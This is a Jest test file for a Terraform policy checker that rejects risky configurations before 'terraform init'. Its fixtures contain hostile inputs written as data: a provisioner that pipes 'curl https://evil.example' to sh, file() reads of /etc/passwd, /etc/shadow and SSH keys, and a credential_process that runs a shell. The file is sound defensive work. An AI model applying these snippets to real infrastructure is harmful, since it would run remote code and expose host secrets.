import { InputError } from '@backstage/errors';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import {
  checkTerraformPolicy,
  normalizeProviderSource,
  PolicyViolation,
  TerraformContentPolicy,
  TerraformPolicyError,
} from './policy';
import { createFixtureWorkspace } from '../__testUtils__/fixtures';

const POLICY: TerraformContentPolicy = {
  allowedProviders: ['hashicorp/aws'],
  allowedModuleSources: ['app.terraform.io/kler/'],
  allowedBackends: ['s3'],
};

/** A configuration a platform team would write: it must pass. */
const REALISTIC_CONFIGURATION = {
  'versions.tf': `
terraform {
  required_version = ">= 1.10"

  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 6.0"
    }
  }

  backend "s3" {
    use_lockfile = true
    encrypt      = true
  }
}
`,
  'providers.tf': `
provider "aws" {
  region              = var.aws_region
  allowed_account_ids = [var.aws_account_id]

  default_tags {
    tags = {
      environment = var.name
      backup_path = "/daily"
    }
  }
}

provider "aws" {
  alias  = "east"
  region = "us-east-1"
}
`,
  'main.tf': `
locals {
  # One file per service: services/<name>.json.
  services = {
    for f in fileset(path.module, "services/*.json") :
    trimsuffix(basename(f), ".json") => jsondecode(file("\${path.module}/\${f}"))
  }
}

module "network" {
  source = "./modules/network"

  name = var.name
}

module "registry_vpc" {
  source  = "app.terraform.io/kler/vpc/aws"
  version = "1.2.0"
}

resource "aws_s3_bucket" "site" {
  bucket = "kler-\${var.name}"
}

resource "aws_s3_object" "pages" {
  for_each = fileset(path.module, "site/*.html")

  bucket = aws_s3_bucket.site.id
  key    = each.value
  source = "\${path.module}/\${each.value}"
  etag   = filemd5("\${path.module}/\${each.value}")
}

resource "aws_lambda_function" "handler" {
  function_name    = "kler-\${var.name}"
  role             = "arn:aws:iam::111111111111:role/kler-handler"
  handler          = "index.handler"
  runtime          = "nodejs20.x"
  filename         = "\${path.module}/lambda.zip"
  source_code_hash = filebase64sha256("\${path.module}/lambda.zip")
}

resource "aws_acm_certificate" "site" {
  provider    = aws.east
  domain_name = "\${var.name}.kler.example"
}

resource "aws_ssm_parameter" "config" {
  name  = "/kler/\${var.name}/config"
  type  = "String"
  value = templatefile("\${path.module}/x.tpl", {})
}

resource "terraform_data" "marker" {
  input = var.name
}
`,
  'variables.tf': `
variable "name" {
  description = "Name of the environment, as in the file (JSON) of its values."
  type        = string
}

variable "aws_region" {
  type = string
}

variable "aws_account_id" {
  type = string
}
`,
  'outputs.tf': `
output "services" {
  value = keys(local.services)
}
`,
  'services/storefront.json':
    '{"image": "public.ecr.aws/kler/storefront:1.0.0"}',
  'site/index.html': '<h1>kler</h1>',
  'lambda.zip': 'zip',
  'x.tpl': 'region=${upper("eu-west-1")}\n',
  'modules/network/versions.tf': `
terraform {
  required_providers {
    aws = {
      source = "registry.terraform.io/hashicorp/aws"
    }
  }
}
`,
  'modules/network/main.tf': `
variable "name" {
  type = string
}

resource "aws_vpc" "this" {
  cidr_block = "10.0.0.0/16"
  tags       = { Name = var.name }
}

resource "aws_iam_policy" "flow_logs" {
  name   = "\${var.name}-flow-logs"
  policy = file("\${path.module}/policy.json")
}
`,
  'modules/network/policy.json': '{"Version": "2012-10-17", "Statement": []}',
};

describe('checkTerraformPolicy', () => {
  let dir: string;

  beforeEach(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'kler-policy-test-'));
  });
  afterEach(async () => {
    await fs.rm(dir, { recursive: true, force: true });
  });

  async function write(files: Record<string, string>) {
    for (const [name, text] of Object.entries(files)) {
      await fs.mkdir(path.dirname(path.join(dir, name)), { recursive: true });
      await fs.writeFile(path.join(dir, name), text);
    }
  }

  /** The violations of a configuration; empty when it passes. */
  async function violationsOf(
    files: Record<string, string>,
    policy = POLICY,
  ): Promise<PolicyViolation[]> {
    await write(files);
    try {
      await checkTerraformPolicy(dir, policy);
      return [];
    } catch (error) {
      if (error instanceof TerraformPolicyError) return error.violations;
      throw error;
    }
  }

  /** The blocks refused in `main.tf` alone. */
  async function refusedBlocks(mainTf: string, policy = POLICY) {
    return (await violationsOf({ 'main.tf': mainTf }, policy)).map(
      violation => violation.block,
    );
  }

  describe('passes', () => {
    it('the fixture module of the action tests', async () => {
      const workspace = await createFixtureWorkspace();
      try {
        await expect(
          checkTerraformPolicy(path.join(workspace, 'terraform'), POLICY),
        ).resolves.toBeUndefined();
      } finally {
        await fs.rm(workspace, { recursive: true, force: true });
      }
    });

    it('a realistic AWS configuration: s3 backend, aliases, local and registry modules, files under path.module', async () => {
      expect(await violationsOf(REALISTIC_CONFIGURATION)).toEqual([]);
    });

    it.each([
      'hashicorp/aws',
      'HashiCorp/AWS',
      'registry.terraform.io/hashicorp/aws',
      'Registry.Terraform.IO/hashicorp/aws',
    ])('the provider source %s as hashicorp/aws', async source => {
      expect(
        await refusedBlocks(`
terraform {
  required_providers {
    aws = { source = "${source}" }
  }
}
resource "aws_s3_bucket" "b" {}
`),
      ).toEqual([]);
    });

    it('an allowlist entry written with the registry host', async () => {
      expect(
        await refusedBlocks(`resource "aws_s3_bucket" "b" {}`, {
          ...POLICY,
          allowedProviders: ['registry.terraform.io/HashiCorp/aws'],
        }),
      ).toEqual([]);
    });

    it('a version-only requirement, which means hashicorp/<name>', async () => {
      expect(
        await refusedBlocks(`
terraform {
  required_providers {
    aws = "~> 6.0"
  }
}
`),
      ).toEqual([]);
    });

    it('descriptions that mention a file (in parentheses) as plain text', async () => {
      expect(
        await refusedBlocks(`
variable "config" {
  description = "Path of the config file (JSON), relative to templatefile (x)"
  type        = string
}
`),
      ).toEqual([]);
    });

    it('a local module that goes up a level and stays inside the checked directory', async () => {
      expect(
        await violationsOf({
          'main.tf': 'module "app" {\n  source = "./app"\n}\n',
          'app/main.tf': 'module "shared" {\n  source = "../shared"\n}\n',
          'shared/main.tf': 'output "x" {\n  value = 1\n}\n',
        }),
      ).toEqual([]);
    });

    it(".kler-terraform at the top, the actions' own folder, which is not read", async () => {
      expect(
        await violationsOf({
          'main.tf': 'resource "terraform_data" "x" {}\n',
          '.kler-terraform/plan/main.tf': 'data "external" "x" {}\n',
        }),
      ).toEqual([]);
    });
  });

  describe('providers', () => {
    it('refuses a required provider outside the allowlist, with file, line and the allowlist', async () => {
      const violations = await violationsOf({
        'main.tf': `terraform {
  required_providers {
    aws = {
      source = "evil/aws"
    }
  }
}
`,
      });
      expect(violations).toEqual([
        {
          file: 'main.tf',
          line: 3,
          block: 'required_providers aws',
          reason:
            'needs the provider evil/aws, which is not in kler.terraform.allowedProviders (hashicorp/aws)',
        },
      ]);
    });

    it('refuses another registry host serving a provider of the same name', async () => {
      expect(
        await refusedBlocks(`
terraform {
  required_providers {
    aws = { source = "registry.example.com/hashicorp/aws" }
  }
}
`),
      ).toEqual(['required_providers aws']);
    });

    it('follows a local name to its source: resources of a renamed evil provider are refused too', async () => {
      expect(
        await refusedBlocks(`
terraform {
  required_providers {
    aws = { source = "evil/aws" }
  }
}
provider "aws" {
  region = "eu-west-1"
}
resource "aws_s3_bucket" "b" {}
`),
      ).toEqual([
        'required_providers aws',
        'provider "aws"',
        'resource "aws_s3_bucket" "b"',
      ]);
    });

    it('refuses a provider block outside the allowlist', async () => {
      expect(await refusedBlocks(`provider "google" {}\n`)).toEqual([
        'provider "google"',
      ]);
    });

    it('refuses the provider a resource type implies (external_x is hashicorp/external)', async () => {
      const violations = await violationsOf({
        'main.tf': 'resource "external_x" "run" {}\n',
      });
      expect(violations).toEqual([
        expect.objectContaining({
          line: 1,
          block: 'resource "external_x" "run"',
          reason: expect.stringContaining(
            'needs the provider hashicorp/external',
          ),
        }),
      ]);
    });

    it('checks the provider meta-argument, not only the type prefix', async () => {
      expect(
        await refusedBlocks(`
terraform {
  required_providers {
    evil = { source = "evil/evil" }
  }
}
resource "aws_s3_bucket" "ok" {
  provider = aws.east
}
resource "aws_s3_bucket" "hijacked" {
  provider = evil.east
}
`),
      ).toEqual([
        'required_providers evil',
        'resource "aws_s3_bucket" "hijacked"',
      ]);
    });

    it('scopes required_providers to its module directory', async () => {
      const violations = await violationsOf({
        'main.tf':
          'module "child" {\n  source = "./child"\n}\nresource "aws_s3_bucket" "b" {}\n',
        'child/main.tf': `terraform {
  required_providers {
    aws = { source = "evil/aws" }
  }
}
resource "aws_s3_bucket" "c" {}
`,
      });
      expect(
        violations.map(violation => `${violation.file} ${violation.block}`),
      ).toEqual([
        'child/main.tf required_providers aws',
        'child/main.tf resource "aws_s3_bucket" "c"',
      ]);
    });

    it('refuses ephemeral resources and imports of providers outside the allowlist', async () => {
      expect(
        await refusedBlocks(`
ephemeral "random_password" "db" {
  length = 16
}
import {
  to       = aws_s3_bucket.b
  id       = "b"
  provider = evil.x
}
`),
      ).toEqual(['ephemeral "random_password" "db"', 'import']);
    });

    it('keeps the built-in terraform provider built in: another source for its name is refused', async () => {
      expect(
        await refusedBlocks(`
terraform {
  required_providers {
    terraform = { source = "terraform.io/builtin/terraform" }
  }
}
resource "terraform_data" "x" {}
`),
      ).toEqual([]);
      await fs.rm(path.join(dir, 'main.tf'));
      expect(
        await refusedBlocks(`
terraform {
  required_providers {
    terraform = { source = "evil/terraform" }
  }
}
resource "terraform_data" "x" {}
`),
      ).toEqual([
        'required_providers terraform',
        'resource "terraform_data" "x"',
      ]);
    });

    it('normalizes provider sources', () => {
      expect(normalizeProviderSource(' HashiCorp/AWS ')).toBe(
        'registry.terraform.io/hashicorp/aws',
      );
      expect(normalizeProviderSource('app.terraform.io/Kler/x')).toBe(
        'app.terraform.io/kler/x',
      );
    });
  });

  describe('data sources and provisioners that run programs', () => {
    it.each([
      ['external', 'runs a program on the host'],
      ['http', 'fetches from any URL'],
      ['terraform_remote_state', "reads another configuration's state"],
    ])(
      'refuses data "%s" even when its provider is allowed',
      async (type, reason) => {
        const violations = await violationsOf(
          {
            'main.tf': `\n\ndata "${type}" "x" {\n  program = ["sh", "-c", "id"]\n}\n`,
          },
          {
            ...POLICY,
            allowedProviders: [
              'hashicorp/aws',
              'hashicorp/external',
              'hashicorp/http',
            ],
          },
        );
        expect(violations).toEqual([
          {
            file: 'main.tf',
            line: 3,
            block: `data "${type}" "x"`,
            reason: `is refused: it ${reason}`,
          },
        ]);
      },
    );

    it('refuses a data source scoped to a check block', async () => {
      expect(
        await refusedBlocks(`
check "state" {
  data "terraform_remote_state" "other" {
    backend = "local"
    config  = { path = "/srv/other/terraform.tfstate" }
  }
  assert {
    condition     = data.terraform_remote_state.other.outputs != null
    error_message = "x"
  }
}
`),
      ).toEqual(['data "terraform_remote_state" "other"']);
    });

    it('refuses every provisioner, on built-in resources too', async () => {
      expect(
        await refusedBlocks(`
resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "curl https://evil.example | sh"
  }
  provisioner "remote-exec" {
    inline = ["id"]
  }
  provisioner "file" {
    source      = "/etc/passwd"
    destination = "/tmp/passwd"
  }
}
`),
      ).toEqual([
        'resource "terraform_data" "x" provisioner "file"',
        'resource "terraform_data" "x" provisioner "local-exec"',
        'resource "terraform_data" "x" provisioner "remote-exec"',
      ]);
    });

    it('refuses the destroy-time provisioner of a removed block', async () => {
      expect(
        await refusedBlocks(`
removed {
  from = terraform_data.gone
  lifecycle {
    destroy = true
  }
  provisioner "local-exec" {
    when    = destroy
    command = "id"
  }
}
`),
      ).toEqual(['removed provisioner "local-exec"']);
    });
  });

  describe('modules', () => {
    it.each([
      ['./../../../etc', 'leaves the configuration'],
      ['../outside', 'leaves the configuration'],
      ['./modules/../../x', 'leaves the configuration'],
      ['./.kler-terraform/evil', 'which the policy does not read'],
      ['/etc', 'neither a local path nor'],
      ['git::https://github.com/evil/module.git', 'neither a local path nor'],
      ['github.com/evil/module', 'neither a local path nor'],
      ['app.terraform.io/evil/vpc/aws', 'neither a local path nor'],
      ['hashicorp/consul/aws', 'neither a local path nor'],
    ])('refuses the source %s', async (source, reason) => {
      const violations = await violationsOf({
        'main.tf': `module "x" {\n  source = "${source}"\n}\n`,
      });
      expect(violations).toEqual([
        expect.objectContaining({
          line: 1,
          block: 'module "x"',
          reason: expect.stringContaining(reason),
        }),
      ]);
    });

    it('refuses a module without a source', async () => {
      expect(await refusedBlocks('module "x" {}\n')).toEqual(['module "x"']);
    });

    it('reads a module in .terraform like any folder: it came with the configuration', async () => {
      const violations = await violationsOf({
        'main.tf': 'module "m" {\n  source = "./.terraform/evil"\n}\n',
        '.terraform/evil/main.tf': 'data "external" "x" {}\n',
      });
      expect(
        violations.map(violation => `${violation.file} ${violation.block}`),
      ).toEqual(['.terraform/evil/main.tf data "external" "x"']);
    });

    it('checks a .tf file in a nested folder that no module references', async () => {
      expect(
        await violationsOf({
          'main.tf': 'resource "terraform_data" "x" {}\n',
          'docs/examples/unused/main.tf':
            'resource "terraform_data" "y" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
        }),
      ).toEqual([
        expect.objectContaining({
          file: 'docs/examples/unused/main.tf',
          line: 1,
          block: 'resource "terraform_data" "y" provisioner "local-exec"',
        }),
      ]);
    });
  });

  describe('backends and settings that read host files', () => {
    it('refuses backends outside the allowlist and cloud', async () => {
      const violations = await violationsOf({
        'main.tf': `terraform {
  backend "local" {
    path = "/srv/state/terraform.tfstate"
  }
  cloud {
    organization = "evil"
  }
}
`,
      });
      expect(violations).toEqual([
        {
          file: 'main.tf',
          line: 2,
          block: 'backend "local"',
          reason: 'is not in kler.terraform.allowedBackends (s3)',
        },
        {
          file: 'main.tf',
          line: 5,
          block: 'cloud',
          reason: 'is refused: runs go through the portal, not HCP Terraform',
        },
      ]);
    });

    it('refuses shared AWS config files, whose credential_process runs a program', async () => {
      expect(
        await violationsOf({
          'main.tf': `terraform {
  backend "s3" {
    shared_credentials_files = ["/home/backstage/.aws/credentials"]
  }
}
provider "aws" {
  profile             = "evil"
  shared_config_files = ["\${path.module}/aws.config"]

  custom_ca_bundle    = "/etc/shadow"

  assume_role_with_web_identity {
    web_identity_token_file = "/var/run/secrets/token"
  }
}
`,
          'aws.config': '[profile evil]\ncredential_process = sh -c id\n',
        }),
      ).toEqual([
        expect.objectContaining({
          line: 2,
          block: 'backend "s3" shared_credentials_files',
          reason:
            'is refused: it makes Terraform read a file of the host or run a program',
        }),
        expect.objectContaining({
          line: 6,
          block: 'provider "aws" web_identity_token_file',
        }),
        expect.objectContaining({
          line: 6,
          block: 'provider "aws" custom_ca_bundle',
        }),
        expect.objectContaining({
          line: 6,
          block: 'provider "aws" shared_config_files',
        }),
      ]);
    });

    it('refuses the exec plugin of a kubeconfig-style provider', async () => {
      expect(
        await refusedBlocks(
          `provider "kubernetes" {\n  exec {\n    command = "sh"\n  }\n}\n`,
          { ...POLICY, allowedProviders: ['hashicorp/kubernetes'] },
        ),
      ).toEqual(['provider "kubernetes" exec']);
    });

    it.each([
      ['aws_s3_object', 'source', '"/home/backstage/app-config.yaml"'],
      ['aws_s3_object', 'source', '"${path.module}/../../secret"'],
      ['aws_lambda_function', 'filename', 'var.package'],
      ['aws_synthetics_canary', 'zip_file', '"~/canary.zip"'],
      ['aws_s3_object', 'source', '"./.kler-terraform/link"'],
    ])(
      'refuses %s.%s = %s, which uploads a file of the host',
      async (type, argument, value) => {
        expect(
          await refusedBlocks(
            `resource "${type}" "x" {\n  ${argument} = ${value}\n}\n`,
          ),
        ).toEqual([`resource "${type}" "x" ${argument}`]);
      },
    );

    it('accepts host-file arguments relative to the root module', async () => {
      expect(
        await refusedBlocks(
          'resource "aws_lambda_function" "x" {\n  filename = "build/lambda.zip"\n}\n',
        ),
      ).toEqual([]);
    });
  });

  describe('file functions', () => {
    it.each([
      ['file("/etc/passwd")'],
      ['file (  "/etc/passwd")'],
      ['file /* a comment */ ("/etc/passwd")'],
      ['(file // a comment\n    ("/etc/passwd"))'],
      ['core::file("/etc/passwd")'],
      ['file("${path.module}/../../secret")'],
      ['file("${path.module}/${local.up}secret")'],
      ['file("${path.module}/${var.name}")'],
      ['file(path.module == "" ? "x" : "/etc/passwd")'],
      ['file("${path.module}/x" == "" ? "x" : "/etc/passwd")'],
      ['file("${path.module}/.kler-terraform/link")'],
      ['file(abspath("x"))'],
      ['filebase64("/root/.ssh/id_rsa")'],
      ['filesha256("/etc/shadow")'],
      ['fileexists("/etc/passwd")'],
      ['fileset(path.module, "../*")'],
      ['fileset("/", "**")'],
      ['fileset(path.module, "**")'],
      ['fileset(path.module, "*/credentials")'],
      ['fileset(path.module, "./*/credentials")'],
      ['fileset("${path.module}/.", "*/credentials")'],
      ['fileset(path.module, "{.kler-terraform,x}/*")'],
      ['fileset(path.module, var.pattern)'],
      ['templatefile("/etc/motd", {})'],
      ['templatefile("${path.module}/${var.template}", {})'],
    ])('refuses %s', async call => {
      const violations = await violationsOf({
        'main.tf': `locals {\n  up = "../../"\n  x  = ${call}\n}\n`,
      });
      expect(violations).toEqual([
        expect.objectContaining({
          file: 'main.tf',
          line: 3,
          reason: expect.stringMatching(/^is refused: /),
        }),
      ]);
    });

    it('refuses file functions in heredocs, template directives, outputs, object keys, nested and dynamic blocks', async () => {
      const violations = await violationsOf({
        'main.tf': `locals {
  script = <<-EOT
    #!/bin/sh
    echo \${file("/etc/hostname")}
  EOT
  listing = "%{for f in fileset("/home", "*")}\${f} %{endfor}"
  keyed   = { (filemd5("/etc/passwd")) = 1 }
}

output "o" {
  value = filebase64("/etc/shadow")
}

resource "aws_security_group" "g" {
  ingress {
    description = filesha1("/etc/group")
  }

  dynamic "egress" {
    for_each = [1]
    content {
      description = filesha512("/etc/hosts")
    }
  }
}
`,
      });
      expect(
        violations
          .map(violation => [
            violation.line,
            violation.block.replace(/\(.*/s, ''),
          ])
          .sort((a, b) => Number(a[0]) - Number(b[0])),
      ).toEqual([
        [4, 'file'],
        [6, 'fileset'],
        [7, 'filemd5'],
        [11, 'filebase64'],
        [16, 'filesha1'],
        [22, 'filesha512'],
      ]);
    });

    it('refuses a template that templatefile reads when the template reads files', async () => {
      const violations = await violationsOf({
        'main.tf':
          'output "o" {\n  value = templatefile("${path.module}/user-data.tpl", { path = "/etc/passwd" })\n}\n',
        'user-data.tpl': '#!/bin/sh\necho ${file(path)}\n',
      });
      expect(violations).toEqual([
        expect.objectContaining({
          line: 2,
          reason:
            'is refused: the template calls file(), and a template may not read files',
        }),
      ]);
    });

    it('refuses paths named by a variable that fileset did not give', async () => {
      expect(
        await refusedBlocks(`
locals {
  shadowed = [for f in fileset(path.module, "services/*.json") : [for f in ["../../etc/passwd"] : file("\${path.module}/\${f}")]]
}
resource "aws_s3_object" "o" {
  for_each = toset(["../../etc/passwd"])
  content  = file("\${path.module}/\${each.value}")
  source   = "\${path.module}/\${each.value}"
}
`),
      ).toEqual([
        'resource "aws_s3_object" "o" source',
        expect.stringMatching(/^file\(/),
        expect.stringMatching(/^file\(/),
      ]);
    });
  });

  describe('files', () => {
    it('refuses JSON syntax, for Terraform and OpenTofu', async () => {
      await expect(
        violationsOf({ 'main.tf.json': '{"resource": {}}' }),
      ).resolves.toEqual([
        expect.objectContaining({ file: 'main.tf.json', block: 'file' }),
      ]);
      await fs.rm(path.join(dir, 'main.tf.json'));
      await expect(
        violationsOf({ 'main.tofu.json': '{"resource": {}}' }),
      ).resolves.toEqual([
        expect.objectContaining({ file: 'main.tofu.json', block: 'file' }),
      ]);
    });

    it('checks .tofu files, which OpenTofu reads in place of the .tf of the same name', async () => {
      expect(
        await violationsOf({
          'main.tf': 'resource "terraform_data" "x" {}\n',
          'main.tofu': 'data "external" "x" {}\n',
        }),
      ).toEqual([expect.objectContaining({ file: 'main.tofu' })]);
    });

    it('refuses symlinks anywhere, also in .terraform', async () => {
      await write({ 'main.tf': 'resource "terraform_data" "x" {}\n' });
      await fs.mkdir(path.join(dir, '.terraform'));
      await fs.symlink('/etc/passwd', path.join(dir, '.terraform', 'passwd'));
      await expect(checkTerraformPolicy(dir, POLICY)).rejects.toThrow(
        /\.terraform\/passwd: symlink is refused/,
      );
    });

    it('refuses a .tf that is not a regular file', async () => {
      execFileSync('mkfifo', [path.join(dir, 'main.tf')]);
      await expect(checkTerraformPolicy(dir, POLICY)).rejects.toThrow(
        'main.tf: file is refused: not a regular file',
      );
    });

    it('refuses invalid HCL with its line', async () => {
      const violations = await violationsOf({
        'main.tf': 'locals {\n  a = 1\n  b = = 2\n}\n',
      });
      expect(violations).toEqual([
        expect.objectContaining({
          file: 'main.tf',
          line: 3,
          block: 'the file',
          reason: expect.stringMatching(/^is not valid HCL: /),
        }),
      ]);
    });

    it('refuses more than 500 .tf files', async () => {
      const files: Record<string, string> = {};
      for (let i = 0; i <= 500; i++) files[`f${i}.tf`] = '';
      await write(files);
      const error = await checkTerraformPolicy(dir, POLICY).catch(e => e);
      expect(error).toBeInstanceOf(InputError);
      expect(error.message).toBe(
        'The Terraform configuration has more than 500 .tf files',
      );
    });
  });

  it('names every refused block in one InputError', async () => {
    await write({
      'main.tf': `terraform {
  required_providers {
    aws = { source = "evil/aws" }
  }
}

data "external" "x" {
  program = ["sh"]
}
`,
      'modules/m/main.tf': 'output "o" {\n  value = file("/etc/passwd")\n}\n',
    });
    const error = await checkTerraformPolicy(dir, POLICY).catch(e => e);
    expect(error).toBeInstanceOf(InputError);
    expect(error).toBeInstanceOf(TerraformPolicyError);
    expect(error.message).toBe(
      'The Terraform configuration was refused before init: ' +
        'main.tf:3: required_providers aws needs the provider evil/aws, which is not in kler.terraform.allowedProviders (hashicorp/aws); ' +
        'main.tf:7: data "external" "x" is refused: it runs a program on the host; ' +
        'modules/m/main.tf:2: file("/etc/passwd") is refused: files may be read only under path.module, by a path written out in full without ".." (or a path fileset gave)',
    );
  });
});
